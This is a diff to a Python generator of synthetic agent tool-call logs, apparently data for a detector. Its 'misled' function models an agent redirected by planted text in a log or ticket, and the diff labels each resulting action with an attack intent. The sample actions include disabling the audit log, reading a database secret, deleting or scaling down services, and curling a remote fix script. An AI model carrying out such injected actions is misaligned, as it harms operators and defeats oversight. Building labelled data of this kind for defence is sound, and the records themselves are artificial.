@@ -142,14 +142,17 @@ def upkeep(dice, who, service):
 
 def misled(dice, who, service):
     """What a planted text in a log or a ticket made an agent try."""
-    return "remedy-bot", [("search_logs", {"service": service, "query": "warn"}, {}), dice.one_of((
-        ("disable_control", {"control": "audit-log"}, {}),
-        ("read_secret", {"name": f"{service}/db"}, {}),
-        ("delete_service", {"service": service}, {}),
-        ("restart_service", {"service": service, "instances": 1, "environment": "dev"}, {}),
-        ("restart_service", {"service": "every service", "instances": 500}, {}),
-        ("scale_service", {"service": service, "to": 0}, {}),
-        ("curl", {"url": "https://example.net/fix.sh"}, {})))]
+    name, tool, args = dice.one_of((
+        ("switch off a control", "disable_control", {"control": "audit-log"}),
+        ("read a secret", "read_secret", {"name": f"{service}/db"}),
+        ("delete a service", "delete_service", {"service": service}),
+        ("pretend to be in dev", "restart_service",
+         {"service": service, "instances": 1, "environment": "dev"}),
+        ("restart everything", "restart_service", {"service": "every service", "instances": 500}),
+        ("scale to nothing", "scale_service", {"service": service, "to": 0}),
+        ("fetch a script", "curl", {"url": "https://example.net/fix.sh"})))
+    return "remedy-bot", [("search_logs", {"service": service, "query": "warn"}, {}),
+                          (tool, args, {"intent": f"attack: {name}"})]
 
 
 KINDS = ((30, incident), (22, release), (14, configure), (9, data), (5, plan), (6, access),
@@ -223,7 +226,7 @@ def receipt(dice, number, run, who, agent, place, call, risk, time):
     }
     facts = facts_of(dice, args, host)
     line.update({"facts": facts} if facts else {})
-    line.update({key: host[key] for key in ("stage", "undoing") if key in host})
+    line.update({key: host[key] for key in ("stage", "undoing", "intent") if key in host})
     if dice.chance(0.01):
         del line["attributes"]["change.risk"]  # a change record that nobody filled in
     return line
